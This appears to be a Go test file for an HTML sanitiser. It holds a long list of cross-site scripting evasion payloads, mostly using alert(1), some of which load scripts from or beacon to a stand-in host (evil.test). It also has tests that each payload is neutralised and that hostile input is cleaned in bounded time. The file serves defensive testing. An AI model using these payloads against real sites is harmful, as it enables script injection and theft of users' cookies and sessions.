package mapping

import (
	"strings"
	"testing"
	"time"
)

// attacks are ways to make a body run something, after the kinds of the OWASP filter evasion cheat sheet, and newer ones.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`,
	`<script/x>alert(1)</script>`,
	`<script src="https://evil.test/x"`,
	`<script>`,
	`<<script>alert(1);//<</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script	type="text/javascript">alert(1)</script >`,
	"<script\x0c>alert(1)</script\x0c>",
	`<ScRiPt>alert(1)</sCrIpT>`,
	`</title><script>alert(1)</script>`,
	`<!--<script>alert(1)//--></script>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<? echo('<script>alert(1)</script>'); ?>`,
	`<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)">`,
	`<img/src=x/onerror=alert(1)>`,
	`<img src=x onerror	=alert(1)>`,
	"<img src=x\nonerror=alert(1)>",
	"<img src=x onerror\x0b=alert(1)>",
	`<img """><script>alert(1)</script>">`,
	`<img src=x:alert(alt) onerror=eval(src) alt=1>`,
	`<img src="javascript:alert(1)">`,
	`<IMG SRC=JaVaScRiPt:alert(1)>`,
	"<IMG SRC=`javascript:alert('1')`>",
	`<img src="jav	ascript:alert(1)">`,
	`<img src="jav&#x09;ascript:alert(1)">`,
	`<img src="jav&#x0A;ascript:alert(1)">`,
	`<img src=" &#14;  javascript:alert(1)">`,
	`<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
	`<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>`,
	`<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>`,
	`<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">`,
	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
	`<img srcset="javascript:alert(1)" src=x>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="java&Tab;script:alert(1)">x</a>`,
	`<a href="&#x1;javascript:alert(1)">x</a>`,
	"<a href=\"\u00a0javascript:alert(1)\">x</a>",
	"<a href=\"\x1bjavascript:alert(1)\">x</a>",
	`<a href="JAVASCRIPT:alert(1)" target="_self">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="livescript:x">x</a>`,
	`<a href="mocha:x">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>`,
	`<a href="feed:javascript:alert(1)">x</a>`,
	`<a href="view-source:javascript:alert(1)">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="blob:https://evil.test/1">x</a>`,
	`<a href="intent://x#Intent;scheme=y;end">x</a>`,
	`<a onmouseover="alert(1)">x</a>`,
	`<a onmouseover=alert(document.cookie)>x</a>`,
	`<a href="x" ping="https://evil.test">x</a>`,
	`<body onload=alert(1)>`,
	`<BODY BACKGROUND="javascript:alert(1)">`,
	`<body style="background:url(javascript:alert(1))">`,
	`<html onclick=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)//`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml;base64,x#x"/></svg>`,
	`<svg><style><img src="</style><img src=x onerror=alert(1)//">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><a xlink:href="javascript:alert(1)">x</a></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<style><style/><img src=x onerror=alert(1)>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
	`<title><img title="</title><img src=x onerror=alert(1)>">`,
	`<xmp><img title="</xmp><img src=x onerror=alert(1)>">`,
	`<plaintext><script>alert(1)</script>`,
	`<noembed><img title="</noembed><img src=x onerror=alert(1)>">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<iframe/onload=alert(1)>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<object data="javascript:alert(1)"></object>`,
	`<object type="text/x-scriptlet" data="https://evil.test/x.html"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<applet code="x.class"></applet>`,
	`<link rel="stylesheet" href="javascript:alert(1)">`,
	`<link rel=import href="https://evil.test/x">`,
	`<style>@import 'https://evil.test/x.css';</style>`,
	`<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x`,
	`<style>body{-moz-binding:url("https://evil.test/x.xml#x")}</style>`,
	`<div style="background-image: url(javascript:alert(1))">x</div>`,
	`<div style="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061'\0029">x</div>`,
	`<div style="background-image: url(&#1;javascript:alert(1))">x</div>`,
	`<div style="width: expression(alert(1));">x</div>`,
	`<img style="xss:expr/*x*/ession(alert(1))">`,
	`<div style="x:expression(alert(1))">x</div>`,
	"<div style=\"x:e\\xpression(alert(1))\">x</div>",
	`<div style="-moz-binding:url(https://evil.test/x.xml#x)">x</div>`,
	`<div style="behavior:url(x.htc)">x</div>`,
	`<p style="color:red&quot;onmouseover=alert(1)">x</p>`,
	`<p style='font-family:"</style><script>alert(1)</script>"'>x</p>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%"><a href="https://evil.test">x</a></div>`,
	`<base href="javascript:alert(1);//">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1);">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD4=">`,
	`<meta http-equiv="Set-Cookie" content="a=b">`,
	`<meta http-equiv="Link" content="<https://evil.test/x.css>; REL=stylesheet">`,
	`<form action="javascript:alert(1)"><input type=submit>`,
	`<form><button formaction="javascript:alert(1)">x</button></form>`,
	`<input type="image" src="javascript:alert(1)">`,
	`<input autofocus onfocus=alert(1)>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<select onchange=alert(1)><option>x</select>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<video poster="javascript:alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<bgsound src="javascript:alert(1)">`,
	`<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>`,
	`<br size="&{alert('1')}">`,
	`<layer src="https://evil.test/x.html"></layer>`,
	`<xml id=x><i><b>&lt;img src="javas<!-- -->cript:alert(1)"&gt;</b></i></xml><span datasrc="#x" datafld="b" dataformatas="html"></span>`,
	`<xss style="behavior: url(x.htc);">`,
	`<x onclick=alert(1)>x</x>`,
	`<p/onclick=alert(1)//>x`,
	`<p "onclick=alert(1)">x`,
	`<p x="a"onclick=alert(1)>x`,
	`<p x='a'y="b"onclick=alert(1)>x`,
	`<p =onclick=alert(1)>x`,
	"<p x=`a` onclick=alert(1)>x",
	`<p title="&quot; onclick=alert(1) x=&quot;">x`,
	`<p title='"onclick=alert(1)'>x`,
	"<p on\x00click=alert(1)>x",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<a href="https://acme.test" onclick="alert(1)" onclick="alert(2)">x</a>`,
	`<a href="https://acme.test" href="javascript:alert(1)">x</a>`,
	`<q cite="javascript:alert(1)">x</q>`,
	`<area shape=circle href="javascript:alert(1)">`,
	`<template><script>alert(1)</script></template>`,
	`<dialog open><form method=dialog></form></dialog>`,
	`<portal src="https://evil.test">`,
	`%3Cscript%3Ealert(1)%3C/script%3E<p>`,
	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>`,
	"\u00bcscript\u00bealert(1)\u00bc/script\u00be<p>",
	`<a href="//evil.test/x.js" onfocus=alert(1) id=x tabindex=1>x</a>`,
	`<p contenteditable onbeforeinput=alert(1)>x`,
	`<div id="x" onpointerenter=alert(1) onanimationend=alert(1)>x</div>`,
	`<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\u0061lert(1)</script x>`,
	`<table><td><form></td><script>alert(1)</script></table>`,
	`<img src="https://acme.test/a.png" style="background:url(https://evil.test/t?x)">`,
}

func TestNoAttackRuns(t *testing.T) {
	if len(attacks) < 80 {
		t.Errorf("only %d attacks", len(attacks))
	}
	harmful := 0
	for _, s := range attacks {
		for _, s := range []string{s, "<p>a</p>" + s + "<p>b</p>", strings.ToUpper(s), s + s, "<html><body>" + s + "</body></html>", "<table><tr><td>" + s + "</td></tr></table>", `<div title="` + s, "<!--" + s, "<pre>" + s} {
			if runs(t, s) != "" {
				harmful++
			}
			for _, trackers := range []bool{false, true} {
				got := SanitiseHTML(s, trackers)
				if why := runs(t, got); why != "" {
					t.Errorf("%s\n became %s: %s", s, got, why)
				}
			}
			if why := runs(t, HTMLOfText(s)); why != "" {
				t.Errorf("as a text %s\n became %s: %s", s, HTMLOfText(s), why)
			}
		}
	}
	if harmful < 5*len(attacks) {
		t.Errorf("only %d are attacks at all", harmful)
	}
}

// TestWhatIsSeenStays wraps words in each attack: none that stands beside it is lost.
func TestWhatIsSeenStays(t *testing.T) {
	for _, s := range attacks {
		got := SanitiseHTML("<p>before</p>"+s, false)
		if !strings.HasPrefix(got, "<p>before</p>") {
			t.Errorf("%s: %s", s, got)
		}
	}
}

// TestHostileHTMLIsCleanedInTime bounds the time any body takes: what is not linear takes minutes here.
func TestHostileHTMLIsCleanedInTime(t *testing.T) {
	size := 1 << 19
	if testing.Short() {
		size = 1 << 17
	}
	for _, unit := range []string{"<", "<div>", "<div style=\"", "a:url(", "</", "<script>", "</script", "<!--", "<!---->", "<p onclick=x ", "<o:p>", "<a href='javascript:", "&", "&quot;", "'", "<textarea>", "<title></title>", "<object>", "</object>", "<svg><math>",
		"<body dir=rtl>", "<p style='color:red;", "<p style='a:b(", "<img width=1 height=1 src=//x>", "<p a b c>", "<iframe></iframe>", "<font><center>"} {
		for _, s := range []string{strings.Repeat(unit, size/len(unit)), "<p style=\"x:" + strings.Repeat(unit, size/len(unit)) + "\">"} {
			began := time.Now()
			got := SanitiseHTML(s, true)
			if took := time.Since(began); took > 10*time.Second {
				t.Errorf("%q × n took %v", unit, took)
			}
			if len(got) > len(s)+cleanExtra(s) {
				t.Errorf("%q × n: %d bytes became %d", unit, len(s), len(got))
			}
		}
	}
}
